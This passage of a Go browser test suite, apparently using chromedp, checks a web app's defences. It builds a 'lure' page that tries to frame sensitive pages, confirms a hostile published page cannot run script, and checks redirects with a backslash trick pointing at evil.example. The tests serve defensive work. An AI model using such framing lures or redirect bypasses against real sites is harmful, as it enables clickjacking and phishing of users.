	r.enter(b, "ada@example.com")
	b.Visit(r.at("acme", "/notes")) // signs in there
	consent := r.request(t, r.ada, r.register(t)).url.String()
	addresses := []string{
		consent, r.app + "/account", r.app + "/w/acme/members", r.app + "/w/acme/settings", r.app + "/nothing", r.app + "/visit", r.at("acme", "/notes"), r.at("acme", "/nothing"),
		r.at("acme", "/data/data.csv"), r.at("acme", "/.session"), r.mcp + "/authorize", r.mcp + "/nothing", r.app + "/sign-out",
	}
	page := "<!doctype html><title>lure</title>"
	for _, address := range addresses {
		page += `<iframe src="` + html.EscapeString(address) + `"></iframe>`
	}
	r.visited()
	b.Visit(r.lure("/frames", page))
	type frame struct {
		Frame struct {
			URL         string `json:"url"`
			Unreachable string `json:"unreachableUrl"`
		} `json:"frame"`
		Children []frame `json:"childFrames"`
	}
	var tree struct {
		Tree frame `json:"frameTree"`
	}
	b.Do(chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		return target.Call(ctx, "Page.getFrameTree", nil, &tree)
	}))
	if len(tree.Tree.Children) != len(addresses) {
		t.Fatalf("%d frames: %+v", len(tree.Tree.Children), tree)
	}
	for i, child := range tree.Tree.Children {
		if child.Frame.Unreachable == "" && child.Frame.URL != "about:blank" && child.Frame.URL != "" && !strings.HasPrefix(child.Frame.URL, "chrome-error:") {
			t.Errorf("%s is shown in a frame: %+v", addresses[i], child)
		}
	}
	if !slices.Contains(r.visited(), "GET /consent") {
		t.Error("the consent page was not asked for with ada's session: the attack was none")
	}
}

// ran has ada open what was published to run script, and go back to what she saw
// when she was signed in.
func (r *realm) ran(t *testing.T) {
	b := r.tab(t)
	r.enter(b, "ada@example.com")
	b.Visit(r.at("acme", "/hostile"))
	if got := browsertest.Eval[[]string](b, `(async () => {
		for (const a of document.querySelectorAll("main a")) if (!a.getAttribute("href") || !/^(\?|#|\/|https:)/.test(a.getAttribute("href"))) a.click();
		await new Promise((done) => setTimeout(done, 200));
		return [document.title, location.href, String(document.querySelectorAll("main form input[name=password], iframe, object, embed, base").length)];
	})()`); got[0] == "ran" || got[1] != r.at("acme", "/hostile") || got[2] != "0" {
		t.Errorf("the page ran: %s", got)
	}
	if got := browsertest.Eval[string](b, `fetch("/data/data.csv").then((r) => r.headers.get("Content-Disposition") + " " + r.headers.get("Content-Type"))`); got != "attachment; filename=data.csv text/csv; charset=utf-8" {
		t.Errorf("the file is %s", got)
	}

	b.Visit(r.request(t, r.ada, r.register(t)).url.String())
	if text := b.Text("body"); !strings.Contains(text, "ada@example.com") || !strings.Contains(text, "Acme") {
		t.Fatalf("the consent page shows\n%s", text)
	}
	b.Visit(r.app + "/account")
	b.Do(chromedp.Click(`details.push summary`))
	b.Follow(chromedp.Click(`form[action="/sign-out"] button`))
	for range 2 {
		b.Do(chromedp.NavigateBack())
		if text := b.Text("body"); strings.Contains(text, "ada@example.com") || strings.Contains(text, "Acme") {
			t.Errorf("after the sign-out, going back to %s shows\n%s", b.Address(), text)
		}
	}
}

// turned asks a real browser where it would have been led.
func (r *realm) turned(t *testing.T) {
	b := r.tab(t)
	var pairs [][2]string
	for _, turn := range r.turns {
		pairs = append(pairs, [2]string{turn.location, turn.base})
	}
	script, err := json.Marshal(pairs)
	if err != nil || len(pairs) < 200 {
		t.Fatal(len(pairs), err)
	}
	b.Visit(r.lure("/turned", "<!doctype html><title>lure</title>"))
	origins := browsertest.Eval[[]string](b, `(`+string(script)+`).map(([to, base]) => new URL(to, base).origin)`)
	for i, origin := range origins {
		if !slices.Contains([]string{r.mcp, r.app, r.at("lair", "")}, origin) {
			t.Errorf("%s with %.80q leads to %s", r.turns[i].by, r.turns[i].from, origin)
		}
	}
	// It does tell them apart.
	if got := browsertest.Eval[string](b, `new URL("/\\evil.example/", "`+r.app+`").origin`); got != "https://evil.example" {
		t.Errorf("a browser reads what leads away as %s", got)
	}
}
